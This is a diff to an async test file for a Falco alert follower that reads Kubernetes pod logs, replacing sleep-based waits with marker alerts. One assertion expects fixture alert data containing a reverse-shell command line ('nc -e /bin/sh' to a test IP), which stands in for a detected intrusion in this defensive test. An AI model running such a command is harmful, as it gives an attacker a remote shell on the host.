@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import json
-from collections.abc import AsyncIterator, Callable
+from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -17,10 +17,11 @@ from actions.falco.classify import Classifier
 from actions.falco.times import rfc3339_to_ns
 from actions.kube.cluster import ClusterOptions, connect
 from actions.sources.batches import AlertBatch
-from actions.sources.falco_follower import FalcoFollower
+from actions.sources.falco_follower import FalcoFollower, FalcoFollowerSettings
 from actions.sources.health import SourceHealth
 from store import Record, verify_chain
 from tests.plugins.drill import SEED_TIME
+from tests.plugins.waiting import eventually
 
 NS = "falco-system"
 SEEDED_ALERTS = 1  # tests/plugins/drill.py puts one alert in falco-x7k2p's log
@@ -56,15 +57,6 @@ def falco_pod(name: str, labels: dict[str, str], node: str = "node-3") -> dict[s
             "status": {"phase": "Running"}}
 
 
-async def eventually(check: Callable[[], bool], within: float = 10.0) -> None:
-    """Wait until check() is true (polling the record or the follower), else fail."""
-    deadline = asyncio.get_running_loop().time() + within
-    while not check():
-        if asyncio.get_running_loop().time() > deadline:
-            raise AssertionError("condition not reached in time")
-        await asyncio.sleep(0.02)
-
-
 class Running:
     """A follower running in a task, with everything its sink received."""
 
@@ -95,9 +87,9 @@ async def api(drill_server: DrillServerThread, tmp_path: Path) -> AsyncIterator[
 
 
 def follower(api: Any, record: Record, **options: Any) -> FalcoFollower:
-    settings = {"flush_seconds": 0.05, "backoff_first": 0.05, "backoff_max": 0.2,
-                "gone_grace_seconds": 1.0, **options}
-    return FalcoFollower(api, record, Classifier.load(None), **settings)
+    settings = FalcoFollowerSettings(flush_seconds=0.05, backoff_first=0.05, backoff_max=0.2,
+                                     gone_grace_seconds=1.0, **options)
+    return FalcoFollower(api, record, Classifier.load(None), settings)
 
 
 def recorded_keys(record: Record) -> list[str]:
@@ -216,12 +208,16 @@ async def test_a_cut_stream_resumes_from_since_time_without_loss_or_duplicates(
                              at=base + timedelta(milliseconds=500))
         await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 14)
         await eventually(lambda: running.health[-1].state == "connected")
-        await asyncio.sleep(0.2)  # a duplicate would arrive by now
+        # A marker after everything: once it is recorded, the resumed stream has been read
+        # past every line it repeats, so a duplicate would have been recorded by now.
+        state.append_log(NS, "falco-m4n8q", alert_line("node-2", 14),
+                         at=base + timedelta(seconds=1))
+        await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 15, "the marker")
         await running.stop()
     await cluster.close()
 
-    assert record.alerts.count() == SEEDED_ALERTS + 14
-    assert len(set(recorded_keys(record))) == SEEDED_ALERTS + 14
+    assert record.alerts.count() == SEEDED_ALERTS + 15
+    assert len(set(recorded_keys(record))) == SEEDED_ALERTS + 15
     assert sum(batch.duplicates for batch in running.batches) == 0
     assert record.alerts.rejected_count() == rejected_before  # not recorded twice either
     assert running.follower.reconnects >= 2
@@ -322,22 +318,26 @@ def test_a_restarted_follower_records_nothing_twice(
     for number in range(20):
         state.append_log(NS, "falco-m4n8q", alert_line("node-2", number))
 
-    async def follow_once() -> list[AlertBatch]:
+    async def follow_once(recorded: int) -> list[AlertBatch]:
         cluster = await connect(
             ClusterOptions(kubeconfig=str(drill_server.kubeconfig_path(tmp_path))))
         with Record.open(record_path) as record:
             running = Running(follower(cluster.client, record))
-            await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 20)
-            await asyncio.sleep(0.2)
+            await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + recorded)
             await running.stop()
         await cluster.close()
         return running.batches
 
-    asyncio.run(follow_once())
-    second = asyncio.run(follow_once())
-    assert [item for batch in second for item in batch.alerts if item.fresh] == []
+    asyncio.run(follow_once(20))
+    # A marker at the end of the log: once the second run has recorded it, it has read
+    # every line before it, and any of them recorded twice would be fresh in its batches.
+    state.append_log(NS, "falco-m4n8q", alert_line("node-2", 20))
+    second = asyncio.run(follow_once(21))
+    fresh = [item for batch in second for item in batch.alerts if item.fresh]
+    assert [item.alert.output_fields["proc.cmdline"] for item in fresh] == [
+        "nc -e /bin/sh 203.0.113.7 4020"]
     with Record.open(record_path) as record:
-        assert record.alerts.count() == SEEDED_ALERTS + 20
+        assert record.alerts.count() == SEEDED_ALERTS + 21  # the 20, once, and the marker
 
 
 async def test_a_full_record_is_said_and_retried_losing_no_line(
